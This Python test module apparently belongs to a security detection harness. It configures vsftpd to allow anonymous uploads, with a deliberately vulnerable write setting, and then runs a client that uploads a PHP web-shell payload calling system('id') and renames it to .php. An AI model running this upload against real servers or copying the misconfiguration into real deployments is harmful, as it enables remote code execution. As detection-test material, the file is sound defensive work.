"""vsftpd, where nameless visitors may write: a file is sent by a data connection to a port that the server names, and becomes a
script by its new name."""
from bait import installed
from client import Client, word

KIND = "plain"
RULE = "web_script_written"
NEEDS = ["/usr/sbin/vsftpd"]
ALWAYS = True

DATA_PORTS = 9  # behind the first


def services(bait):
    bait.folder_of("root", "ftp")
    bait.folder_of("root", "empty")
    bait.folder_of("ftp", "ftp/incoming")
    bait.write("vsftpd.conf", f"""background=NO
listen=YES
listen_address={bait.host}
listen_port={bait.port()}
anonymous_enable=YES
local_enable=NO
write_enable=YES
anon_upload_enable=YES
anon_other_write_enable={'YES' if bait.vulnerable else 'NO'}
anon_umask=022
anon_root={bait.file('ftp')}
secure_chroot_dir={bait.file('empty')}
port_enable=NO
pasv_address={bait.outside}
pasv_min_port={bait.port(1)}
pasv_max_port={bait.port(DATA_PORTS)}
accept_timeout=1
data_connection_timeout=5
isolate=NO
isolate_network=NO
""")
    service = bait.entrance([installed(NEEDS[0]), bait.file("vsftpd.conf")])
    service["ports"] = [bait.port(i) for i in range(DATA_PORTS + 1)]
    return [service]


def visit(address, random):
    client = Client(address)
    client.line()
    client.ask("USER anonymous", "331")
    client.ask(f"PASS {word(random)}@site", "230")
    client.ask("TYPE I", "200")
    client.ask("CWD incoming", "250")
    numbers = client.ask("PASV", "227").partition("(")[2].partition(")")[0].split(",")
    data = Client((".".join(numbers[:4]), int(numbers[4]) * 256 + int(numbers[5])))
    name = word(random)
    client.ask(f"STOR {name}.txt", "150")
    data.say(f"<?php /* {word(random, 50, 400)} */ system('id'); ?>\n")
    data.close()
    client.line()
    client.ask(f"RNFR {name}.txt")
    client.say(f"RNTO {name}.php\r\n")
    client.line()
    client.close()
